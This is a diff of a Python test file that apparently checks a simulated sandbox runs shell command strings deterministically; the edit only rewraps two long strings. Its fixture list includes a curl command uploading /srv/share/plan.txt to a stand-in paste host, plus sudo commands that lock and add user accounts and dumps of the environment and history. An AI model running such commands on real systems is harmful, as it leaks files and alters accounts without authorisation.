@@ -15,7 +15,10 @@ COMMANDS = (
     "ls -laR /srv/share; find / -type f | head -40; date; echo $RANDOM $RANDOM; mktemp; uuidgen; seq 9 | shuf",
     "grep -r plan /srv /home 2>&1; cat /srv/share/*; du -a /srv/share; ls -l /etc",
     "tar czf /tmp/a.tgz /srv/share; sha256sum /tmp/a.tgz; zip -q -r /tmp/a.zip /srv/share; sha256sum /tmp/a.zip",
-    "sudo usermod -L wei; sudo useradd intern; sudo sed -i 's/x/y/' /etc/shells; for f in /etc/*.conf; do echo $f; done",
+    (
+        "sudo usermod -L wei; sudo useradd intern; sudo sed -i "
+        "'s/x/y/' /etc/shells; for f in /etc/*.conf; do echo $f; done"
+    ),
     "cp -r /srv/share /tmp/copy; mv /tmp/copy /tmp/moved; rm -r /tmp/moved; sleep 5; date +%s; stat /tmp/a.tgz",
     "echo hi | mail -s x ada; curl -s -F f=@/srv/share/plan.txt https://binbox.example/; ps aux; env | sort; history",
 )
@@ -34,7 +37,8 @@ def digest(desk) -> str:
 
 def test_two_processes_agree(make_desk) -> None:
     script = (
-        "from tests.simulator.sandbox.conftest import Desk; from tests.simulator.sandbox.virtual.test_determinism import digest; "
+        "from tests.simulator.sandbox.conftest import Desk; from "
+        "tests.simulator.sandbox.virtual.test_determinism import digest; "
         "print(digest(Desk()))"
     )
     path = os.pathsep.join([str(ROOT), *sys.path])
